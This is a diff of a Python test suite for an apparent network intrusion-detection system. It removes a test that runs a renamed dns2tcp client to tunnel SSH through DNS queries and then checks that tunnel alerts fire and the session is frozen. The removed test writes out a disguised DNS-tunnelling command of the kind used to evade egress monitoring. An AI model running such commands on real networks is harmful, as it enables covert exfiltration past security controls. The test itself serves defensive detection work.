@@ -534,26 +534,6 @@ def test_icmp_tunnel_with_ptunnel_ng_renamed(agents, episode, net, netns_server,
         assert response(recs)["outcome"] == "frozen"
 
 
-def test_dns_tunnel_with_dns2tcp_renamed(agents, episode, net, netns_server, tmp_path):
-    """dns2tcp (renamed) carries an SSH session in DNS queries to its own server."""
-    _, out, _ = agents
-    conf = tmp_path / "dns2tcpd.conf"
-    conf.write_text(f"listen = {net.addr}\nport = 53\nuser = root\ndomain = t.example.org\n"
-                    f"resources = ssh:{net.addr}:22\n")
-    netns_server("dns2tcpd", "-F", "-f", str(conf), udp_port=53)
-    helper = tmp_path / "resolver-helper"
-    disguise(shutil.which("dns2tcpc"), helper)
-    (tmp_path / "send.py").write_text(SEND_THROUGH)
-    with shell_attack(episode, f"{helper} -z t.example.org -r ssh -l 2298 {net.addr} & "
-                               f"{sys.executable} {tmp_path / 'send.py'} 2298; kill $!"):
-        assert episode.wait_frozen(20)
-        recs = wait_records(out, episode, lambda rs: "dns_tunnel_query" in alerts(rs))
-        assert {"dns_to_unexpected_server", "dns_tunnel_query"} <= set(alerts(recs))
-        names = [r["dns"].get("qname", "") for r in recs if r["type"] == "packet" and r.get("port") == 53]
-        assert any(n.endswith("t.example.org") and len(n) > 60 for n in names)
-        assert response(recs)["outcome"] == "frozen"
-
-
 def test_dns_through_a_resolver_and_plain_ping_raise_no_tunnel_alert(agents, episode, net):
     """A normal lookup sent to a resolver on loopback, and ping's small echo requests: no tunnel alerts."""
     _, out, _ = agents
